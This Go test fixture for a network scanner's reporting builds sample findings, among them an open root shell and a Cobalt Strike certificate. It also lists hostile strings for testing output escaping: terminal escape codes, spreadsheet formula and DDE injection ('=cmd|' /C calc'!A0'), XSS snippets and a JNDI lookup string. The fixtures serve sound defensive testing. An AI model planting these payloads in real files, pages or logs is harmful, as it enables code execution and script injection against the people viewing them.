package sinktest

import (
	"fmt"
	"net/netip"
	"strings"
	"time"

	"dormant/fingerprint"
	"dormant/registry"
	"dormant/reports"
	"dormant/scanner"
)

// at is the time of the first finding; each later one comes a second after.
func at(i int) time.Time {
	return time.Date(2026, 11, 22, 3, 47, 0, 120_000_000, time.UTC).Add(time.Duration(i) * time.Second)
}

func meta() reports.Meta {
	return reports.Meta{ScanID: "s_01J9ZK3V7Q", Site: "hq", Vantage: "probe-dmz1", Ticket: "CHG0012345"}
}

func observed(i int, addr, port string, s scanner.State, r scanner.Reason) scanner.Observation {
	p, err := registry.ParsePort(port)
	if err != nil {
		panic("sinktest: " + err.Error()) // a literal of this file
	}
	a := netip.MustParseAddr(addr)
	o := scanner.Observation{
		Target: scanner.Target{Addr: a, Port: p}, State: s, Reason: r, At: at(i), Sent: 1,
	}
	if r != scanner.NoResponse && r != scanner.LocalError && r != scanner.ARPNoReply {
		o.From, o.TTL, o.RTT = a, 63, 1234*time.Microsecond
	}
	return o
}

// dialogue is evidence of one exchange.
func dialogue(o scanner.Observation, probe, sent, received string) *fingerprint.Evidence {
	conn := 1
	if o.Port.Proto == registry.UDP {
		conn = 0
	}
	return &fingerprint.Evidence{
		Target: o.Target, Started: o.At, Status: fingerprint.StatusDone,
		Exchanges: []fingerprint.Exchange{{
			Conn: conn, Probe: probe, Sent: []byte(sent), Received: []byte(received),
			Chunks: []fingerprint.Chunk{{At: 3 * time.Millisecond, Bytes: len(received)}},
			End:    fingerprint.EndFin, Elapsed: 5 * time.Millisecond,
		}},
		Connections: conn, BytesSent: len(sent), BytesReceived: len(received), Elapsed: 2 * time.Second,
	}
}

// judged is a finding of an open port whose verdict rests on one sign.
func judged(i int, addr, port, iana, probe, received string, v fingerprint.Verdict) reports.Finding {
	reason := scanner.SynAck
	if strings.HasSuffix(port, "/udp") {
		reason = scanner.UDPReply
	}
	o := observed(i, addr, port, scanner.Open, reason)
	if len(v.Signs) == 0 && v.RuleID != "" {
		v.Signs = []fingerprint.Sign{{
			Rule: v.RuleID, Kind: fingerprint.KindProtocol, Class: v.Class, Points: v.Confidence, Probe: probe,
			Excerpt: received[:min(len(received), 60)], Source: "recorded from the program", Service: v.Service, Product: v.Product,
			Version: v.Version, Decided: true,
		}}
	}
	return reports.NewFinding(meta(), iana, o, &v, dialogue(o, probe, "GET / HTTP/1.0\r\n\r\n", received))
}

// Findings returns findings of every verdict and state, in order, made anew by
// each call.
func Findings() []reports.Finding {
	license := judged(1, "10.0.1.20", "1947/tcp", "sentinelsrm", "get10", "Server: HASP LM/18.00; 302 -> /_int_/index.html",
		fingerprint.Verdict{
			Class: fingerprint.LicenseManager, Confidence: 95, Service: "hasp-acc", Product: "Sentinel LDK License Manager",
			Version: "18.00", CPE: "cpe:2.3:a:safenet-inc:hasp_license_manager:18.00:*:*:*:*:*:*:*", RuleID: "hasp-lm",
			Flags: []string{"acc_reachable", "cleartext_admin"}, Severity: "low", Hostname: "cad-lic01.corp",
		})
	license.MAC, license.MACVendor = "00:1a:4b:00:00:01", "Example Systems"
	license.Change, license.FirstSeen, license.LastSeen = "same", at(-86400), at(1)
	license.Owner, license.Expected, license.Clients = "CAD team", "yes", 14
	license.FWEffect, license.FWRule = "kept", "acl101:30"
	shell := judged(3, "10.0.1.21", "3588/tcp", "shareapp", "silence", "# id\nuid=0(root) gid=0(root)",
		fingerprint.Verdict{
			Class: fingerprint.OpenShell, Reason: "posix", Confidence: 80, Service: "shell", RuleID: "shell-posix",
			Severity: "high", Hints: []string{"no login was asked for"}, Settle: []string{"Ask the host which process listens."},
		})
	c2 := judged(5, "10.0.1.23", "3712/tcp", "sentinel-ent", "tls", "CN=Major Cobalt Strike",
		fingerprint.Verdict{
			Class: fingerprint.PossibleC2, Confidence: 70, Service: "tls", RuleID: "c2-cs-cert", Family: "cobalt_strike",
			Severity: "high", TLSName: "Major Cobalt Strike", TLSCert: "sha256:" + strings.Repeat("ab", 32),
			JARM: strings.Repeat("0", 62), Flags: []string{"self_signed"},
			Signs: []fingerprint.Sign{
				{Rule: "c2-cs-cert", Kind: fingerprint.KindCert, Class: fingerprint.PossibleC2, Points: 90, Probe: "tls",
					Excerpt: "CN=Major Cobalt Strike, serial 146473198", Family: "cobalt_strike", Decided: true, Source: "published default certificate"},
				{Rule: "http-404-empty", Kind: fingerprint.KindHTTPHeader, Class: fingerprint.PossibleC2, Points: 10, Probe: "get11",
					Excerpt: "HTTP/1.1 404 Not Found", Lost: "weak, and common"},
			},
		})
	known := judged(6, "10.0.1.24", "475/tcp", "tcpnethaspsrv", "silence", "SSH-2.0-OpenSSH_9.6", fingerprint.Verdict{
		Class: fingerprint.KnownService, Confidence: 90, Service: "ssh", Product: "OpenSSH", Version: "9.6", RuleID: "ssh", Severity: "info",
	})
	dev := judged(7, "10.0.1.24", "3047/tcp", "hlserver", "get10", "HTTP/1.1 403 Forbidden; host is not allowed", fingerprint.Verdict{
		Class: fingerprint.DevServer, Confidence: 88, Service: "http", Product: "Vite", Version: "8.10", RuleID: "vite", Severity: "medium",
	})
	unknown := judged(8, "10.0.1.25", "3588/tcp", "shareapp", "silence", "", fingerprint.Verdict{
		Class: fingerprint.Unidentified, Reason: "silent", Service: "silent", Severity: "low",
		Hints: []string{"it accepts and never says a word"}, Settle: []string{"Ask the host which process listens."},
	})
	rms := judged(9, "10.0.1.26", "5093/udp", "sentinel-lm", "udp", strings.Repeat("Z", 560), fingerprint.Verdict{
		Class: fingerprint.LicenseManager, Confidence: 95, Service: "sentinel-rms", Product: "Sentinel RMS License Manager",
		RuleID: "rms", Flags: []string{"udp_amplifier_x14"}, Severity: "medium",
	})
	proxy := judged(10, "10.0.1.27", "3712/tcp", "sentinel-ent", "silence", "", fingerprint.Verdict{
		Class: fingerprint.Middlebox, Reason: "syn_proxy", Confidence: 70, Service: "unknown", Severity: "info",
	})
	bare := func(i int, addr, port, iana string, s scanner.State, r scanner.Reason) reports.Finding {
		return reports.NewFinding(meta(), iana, observed(i, addr, port, s, r), nil, nil)
	}
	refused := bare(13, "10.0.1.29", "1947/tcp", "sentinelsrm", scanner.Filtered, scanner.ICMPAdminProhibited)
	refused.ReasonIP = netip.MustParseAddr("10.0.0.1")
	tarpit := judged(16, "2001:db8::5", "5093/tcp", "sentinel-lm", "silence", "x", fingerprint.Verdict{
		Class: fingerprint.Tarpit, Reason: "drip", Confidence: 60, Service: "unknown", Severity: "info", RuleID: "drip",
	})
	socks := judged(17, "2001:db8::6", "3047/tcp", "hlserver", "socks", "\x05\x00", fingerprint.Verdict{
		Class: fingerprint.TunnelOrProxy, Reason: "open_socks", Confidence: 85, Service: "socks5", Flags: []string{"open_socks"}, Severity: "medium",
	})
	gone := bare(11, "10.0.1.28", "1947/tcp", "sentinelsrm", scanner.Closed, scanner.Rst)
	gone.Change, gone.FirstSeen, gone.LastSeen, gone.Note = "gone", at(-86400), at(-43200), "was license_manager HASP"
	known.Change, dev.Change, dev.FirstSeen = "changed", "new", at(7)
	return []reports.Finding{
		license, shell, c2, known, dev, unknown, rms, proxy,
		gone,
		bare(12, "10.0.1.28", "5093/udp", "sentinel-lm", scanner.Closed, scanner.ICMPPortUnreachable),
		refused,
		bare(14, "10.0.1.29", "5093/udp", "sentinel-lm", scanner.OpenFiltered, scanner.NoResponse),
		bare(15, "10.0.1.30", "1947/tcp", "sentinelsrm", scanner.Unreachable, scanner.ARPNoReply),
		bare(15, "10.0.1.31", "1947/tcp", "sentinelsrm", scanner.Unknown, scanner.LocalError),
		tarpit, socks,
	}
}

// Attacks returns texts that are made to be acted upon by what shows a report:
// terminals, spreadsheets, browsers, parsers.
func Attacks() []string {
	return []string{
		"\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://x\x1b\\link",
		"\u009b31mC1", "\x9b2J", "bell\x07 back\b\b\b del\x7f",
		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "  =1",
		"\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
		`=HYPERLINK("http://x","click")`, "=cmd|' /C calc'!A0", "a;=1+1", "a,=1+1", `a","=1`,
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</script><script>alert(2)//", "</style><style>*{display:none}",
		"<!--", "-->", "]]>", "&lt;&#x3c;", "javascript:alert(1)", "{{.}}", "${jndi:ldap://x}",
		"line\nbreak\r\nand\vmore\u2028and\u2029", "invalid\xff\xfe\xc3(utf8",
		"a|b", "| cell | cell |", "`code` *bold* [link](javascript:alert(1)) ![i](http://x)", "# head", "1. list",
		`quote " and ' and \`, "trailing space ", "\u202egnirts desrever\u202c", "\u2066isolate\u2069", "zero\u200b\u200d\u2060width", "\ufeffbom", "nul\x00nul", "\ufffe\uffff\x01\x1f",
		"e\u0301\u4e2d\U0001f600", strings.Repeat("A", 1<<18), strings.Repeat("\xff", 5_000), strings.Repeat("\"", 3000), "",
	}
}

// Hostile returns one finding for each of Attacks, with the text in every place
// that the network can fill.
func Hostile() []reports.Finding {
	var all []reports.Finding
	for i, s := range Attacks() {
		f := judged(i, fmt.Sprintf("10.9.%d.1", i), "3588/tcp", "shareapp", "get10", "x"+s, fingerprint.Verdict{
			Class: fingerprint.Unidentified, Reason: "contradicting", Confidence: 10, Service: s, Product: s, Version: s, CPE: s,
			RuleID: "rule", Family: s, Severity: "info", TLSName: s, TLSCert: s, JARM: s, Hostname: s,
			Flags: []string{s, "flag"}, Hints: []string{s}, Settle: []string{s},
			Signs: []fingerprint.Sign{{
				Rule: "rule", Kind: fingerprint.KindBanner, Class: fingerprint.Unidentified, Points: 10, Probe: "get10",
				Excerpt: s, Source: s, Service: s, Product: s, Version: s, CPE: s, Family: s, Decided: true, Lost: s,
			}},
		})
		f.MACVendor, f.IANAName, f.Owner, f.Ticket, f.Site, f.Vantage, f.FWRule = s, s, s, s, s, s, s
		all = append(all, f)
	}
	return all
}
